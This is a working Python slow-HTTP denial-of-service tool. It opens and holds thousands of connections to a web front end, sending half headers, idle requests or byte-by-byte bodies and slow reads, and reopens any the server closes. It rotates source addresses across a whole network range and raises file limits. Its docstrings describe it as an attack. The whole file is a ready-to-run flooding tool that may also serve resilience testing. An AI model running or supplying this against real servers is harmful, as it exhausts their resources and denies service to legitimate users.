"""Hold many connections to a front from one side, each of which asks for too little: run on a host that is attacked.

    python3 flood.py ADDRESS PORT SECONDS NETWORK KIND=COUNT...

NETWORK is where the connections come from, of its addresses each time another one. Of the kinds ``half`` sends half of
a request's headers, ``idle`` asks once and stays, and ``slow`` sends a body byte by byte or takes a large answer in
small pieces. What is closed is opened anew. Prints how many there were.
"""

from __future__ import annotations

import ipaddress
import json
import os
import random
import resource
import select
import socket
import sys
import time

HEAD = b"GET %s HTTP/1.1\r\nHost: good.example\r\n"
BEGINNINGS = {
    "half": [HEAD % b"/" + b"X-A: "],
    "idle": [HEAD % b"/static/a.css" + b"\r\n"],
    "slow": [
        b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 100000\r\n\r\nx",
        HEAD % b"/?size=2000000" + b"\r\n",
    ],
}
IPV6_FREEBIND = 78  # linux/in6.h


class Flood:
    """Connections, by their descriptors, and what became of them."""

    def __init__(self, address: str, port: int, network: str) -> None:
        """Know whom to attack, and from where."""
        self.address, self.port, self.network = address, port, ipaddress.ip_network(network)
        self.family = socket.AF_INET6 if ":" in address else socket.AF_INET
        self.poll = select.epoll()
        self.open: dict[int, tuple[socket.socket, str, float]] = {}
        self.counts = {"begun": 0, "connected": 0, "closed": 0}

    def source(self) -> str:
        """Return an address of the network."""
        return str(self.network[random.randrange(self.network.num_addresses)])

    def begin(self, kind: str) -> None:
        """Begin one connection."""
        client = socket.socket(self.family)
        client.setblocking(False)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        client.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        if self.family == socket.AF_INET6:
            client.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        client.bind((self.source(), 0))
        client.connect_ex((self.address, self.port))
        self.counts["begun"] += 1
        self.open[client.fileno()] = client, kind, 0
        self.poll.register(client, select.EPOLLOUT | select.EPOLLIN)

    def end(self, number: int) -> None:
        """Give one up that the other side gave up."""
        self.poll.unregister(number)
        self.open.pop(number)[0].close()
        self.counts["closed"] += 1

    def go_on(self, number: int, events: int) -> None:
        """Say what is to be said on a connection, and take a little of what is answered."""
        client, kind, last = self.open[number]
        try:
            if events & (select.EPOLLHUP | select.EPOLLERR) or (events & select.EPOLLIN and not client.recv(1000)):
                self.end(number)
            elif not last and events & select.EPOLLOUT:
                client.send(random.choice(BEGINNINGS[kind]))
                self.counts["connected"] += 1
                self.open[number] = client, kind, time.monotonic()
                # The slow ones take nothing by themselves.
                self.poll.modify(number, 0 if kind == "slow" else select.EPOLLIN)
        except OSError:
            self.end(number)

    def run(self, wanted: dict[str, int], seconds: float) -> None:
        """Hold so many of each kind for so long."""
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            there = dict.fromkeys(wanted, 0)
            for _, kind, _ in self.open.values():
                there[kind] += 1
            for kind, count in wanted.items():
                for _ in range(min(count - there[kind], 2000)):
                    self.begin(kind)
            until = min(deadline, time.monotonic() + 0.5)
            while (left := until - time.monotonic()) > 0:
                for number, events in self.poll.poll(left, 1000):
                    self.go_on(number, events)
            for number, (client, kind, last) in list(self.open.items()):
                if kind == "slow" and last and time.monotonic() - last > 1:
                    try:
                        client.send(b"x")
                        client.recv(500)
                    except BlockingIOError:
                        pass
                    except OSError:
                        self.end(number)
                        continue
                    self.open[number] = client, kind, time.monotonic()


def main() -> None:
    """Attack, and tell what became of it."""
    address, port, seconds, network, *kinds = sys.argv[1:]
    wanted = {kind: int(count) for kind, count in (word.split("=") for word in kinds)}
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    needed = sum(wanted.values()) + 100
    resource.setrlimit(resource.RLIMIT_NOFILE, (needed, max(needed, most) if os.geteuid() == 0 else most))
    flood = Flood(address, int(port), network)
    flood.run(wanted, float(seconds))
    print(json.dumps(flood.counts))


if __name__ == "__main__":
    main()
